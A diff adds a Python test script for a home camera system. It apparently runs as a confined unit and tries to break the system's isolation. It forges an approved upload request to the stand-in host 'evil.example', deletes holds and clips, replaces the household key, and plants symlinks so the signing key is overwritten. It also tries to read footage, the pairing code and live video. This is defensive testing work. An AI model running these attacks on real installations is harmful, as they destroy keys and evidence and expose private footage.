@@ -1,0 +1,183 @@
+"""Run in a unit's place, with its user and sandbox, or by a process of nobody's: tries to break what the household was
+promised; prints one JSON object.
+
+Each attack is "refused", or what it got hold of. What is written into the shared database is no success yet, for every
+role may write there; whether anybody acts on it is seen from outside.
+"""
+import json
+import os
+import socket
+import sqlite3
+import sys
+import urllib.error
+import urllib.request
+from collections.abc import Callable
+from pathlib import Path
+
+STORE, RUN = Path("/var/lib/taimat"), Path("/run/taimat")
+CAMERA = "gate"
+ME = f"{os.getuid()}"
+CLIP_B = 100_000
+
+
+class Refused(Exception):
+    """The attack got nothing."""
+
+
+def ask(path: Path, question: dict[str, object] | None = None) -> bytes:
+    """The first bytes that a socket answers."""
+    with socket.socket(socket.AF_UNIX) as line:
+        line.settimeout(5)
+        line.connect(str(path))
+        if question is not None:
+            line.sendall(json.dumps(question).encode() + b"\n")
+        return line.recv(65_536)
+
+
+def desk(**question: object) -> str:
+    """What the keeper's desk says; raises Refused for a no."""
+    answer = json.loads(ask(RUN / "keeper/decisions.sock", question))
+    if why := answer.get("why"):
+        raise Refused(why)
+    return str(answer)
+
+
+def page(path: str, form: str | None = None) -> bytes:
+    """What the page on this machine shows without a login; raises Refused where that is the login itself."""
+    request = urllib.request.Request(f"http://localhost:8088{path}", form.encode() if form else None,
+                                     {"origin": "http://localhost:8088"})
+    with urllib.request.urlopen(request, timeout=5) as answer:
+        if answer.url.partition("?")[0].endswith("/pair"):
+            raise Refused("/pair")
+        return answer.read(1_000_000)
+
+
+def database() -> sqlite3.Connection:
+    """The shared one."""
+    db = sqlite3.connect(STORE / "db/taimat.db", timeout=10, isolation_level=None)
+    db.row_factory = sqlite3.Row
+    return db
+
+
+def approve_for_the_household() -> str:
+    """Make a request that nobody asked for look approved, and have the keeper and the page say so, too."""
+    db, name = database(), f"01ATTACK{ME:0>18}"[:26]
+    columns = [row["name"] for row in db.execute("PRAGMA table_info(request)") if row["notnull"] and not row["pk"]]
+    values: dict[str, object] = {column: 0 if column.endswith("_ms") else "x" for column in columns}
+    values |= {"id": name, "kind": "clip", "state": "approved", "camera": CAMERA, "upload": "https://evil.example/up",
+               "receipt_key": "00" * 32, "begin_ms": 0, "end_ms": 1 << 50, "until_ms": 1 << 50, "clock": "ntp",
+               "sent_b": 0}
+    marks = ", ".join("?" * len(values))
+    db.execute(f"INSERT OR REPLACE INTO request ({', '.join(values)}) VALUES ({marks})", tuple(values.values()))
+    note(db, "decision", {"request": name, "code": "approved", "by": "page", "asked": "clip", "camera": CAMERA,
+                          "case": "x", "purpose": "x", "officer": "x", "basis": "x"})
+    number = db.execute("SELECT n FROM request WHERE id = ?", (name,)).fetchone()["n"]
+    got = []
+    for attempt in (lambda: desk(ask="decide", token="guess", request=name, digest="0" * 64, code="approved"),
+                    lambda: page("/requests", f"n={number}&do=approve")):
+        try:
+            got.append(str(attempt()))
+        except (Refused, OSError):
+            continue
+    if got:
+        return "; ".join(got)
+    raise Refused
+
+
+def note(db: sqlite3.Connection, kind: str, body: dict[str, object]) -> None:
+    """Note an act for the ledger, as roles do."""
+    db.execute("INSERT INTO act (kind, boot, mono_ms, wall_ms, clock, body) VALUES (?, 'b', 1, 1, 'ntp', ?)",
+               (kind, json.dumps(body, sort_keys=True, separators=(",", ":"))))
+
+
+def erase() -> str:
+    """Have the keeper remove a clip, and forget a hold."""
+    db = database()
+    db.execute("DELETE FROM hold")
+    db.execute("UPDATE clip SET state = 'deleting', why = 'erased' WHERE state = 'done' AND seq = 1")
+    note(db, "deletion", {"clips": ["all"], "why": "erased"})
+    raise Refused
+
+
+def household_key() -> str:
+    """Have the keys of all days wrapped for a key of one's own, or replaced by one."""
+    db = database()
+    db.execute("INSERT OR REPLACE INTO meta (key, value) VALUES ('household_key', ?)", ("42" * 32,))
+    note(db, "household_key", {"public": "42" * 32})
+    (STORE / "household/days.json").write_text("[]")
+    return "days.json"
+
+
+def pause() -> str:
+    """Blind the cameras, or open the eyes of a paused one."""
+    try:
+        (STORE / "household/pause.json").write_text("{}")
+    except OSError:
+        return desk(ask="pause", token="guess") or desk(ask="home", camera=CAMERA, paused=True)
+    return "pause.json"
+
+
+def home_pause() -> str:
+    """The same in the name of Home Assistant, which this household does not have."""
+    return desk(ask="home", camera=CAMERA, paused=True)
+
+
+def destroy_signing_key() -> str:
+    """Have the keeper write over its own key, by a link where it writes."""
+    for place in (STORE / "keeper.lock", STORE / "ballast", RUN / "keeper/keeper.lock", STORE / "household/pause.json",
+                  STORE / "household/pause.json.part", STORE / "db/taimat.db.mended", STORE / "exports/x.tar.part"):
+        try:
+            place.unlink(missing_ok=True)
+            place.symlink_to(STORE / "keys/signing.key")
+        except OSError:
+            continue
+    return (STORE / "keys/signing.key").read_text()
+
+
+def past_footage() -> str:
+    """A finished recording, in the clear."""
+    clip = sorted((STORE / "clips").glob("*/*.mp4"))[0].read_bytes()
+    head = {"day": 1, "ephemeral": "", "wrapped": "", "name": "x"}
+    return f"{len(clip)} bytes, {ask(RUN / 'keys/desk.sock', head)!r}"
+
+
+def footage_by_page() -> str:
+    """The same, as the page shows it."""
+    name = database().execute("SELECT name FROM clip WHERE state = 'done' ORDER BY seq LIMIT 1").fetchone()["name"]
+    return f"{len(page(f'/clips/{name}.mp4'))} bytes"
+
+
+def pairing_code() -> str:
+    """The code that lets a phone in."""
+    try:
+        return (STORE / "keys/decisions.db").read_bytes()[:16].decode()
+    except OSError:
+        return desk(ask="browsers", token="guess")
+
+
+def live() -> str:
+    """What the camera sees now."""
+    for kind in ("live", "snap"):
+        try:
+            return f"{kind}: {len(ask(RUN / f'video/{kind}-{CAMERA}.sock'))} bytes"
+        except OSError:
+            continue
+    raise Refused
+
+
+ATTACKS: dict[str, Callable[[], str]] = {
+    "approve": approve_for_the_household, "erase": erase, "household_key": household_key, "pause": pause,
+    "home_pause": home_pause, "signing_key": destroy_signing_key, "past": past_footage, "page": footage_by_page,
+    "code": pairing_code, "live": live}
+
+
+def outcome(attack: Callable[[], str]) -> str:
+    """ "refused", or what it got."""
+    try:
+        return attack()
+    except (Refused, OSError, IndexError, sqlite3.OperationalError):
+        return "refused"
+
+
+if __name__ == "__main__":
+    print(json.dumps({name: outcome(ATTACKS[name]) for name in sys.argv[1:] or ATTACKS}), flush=True)
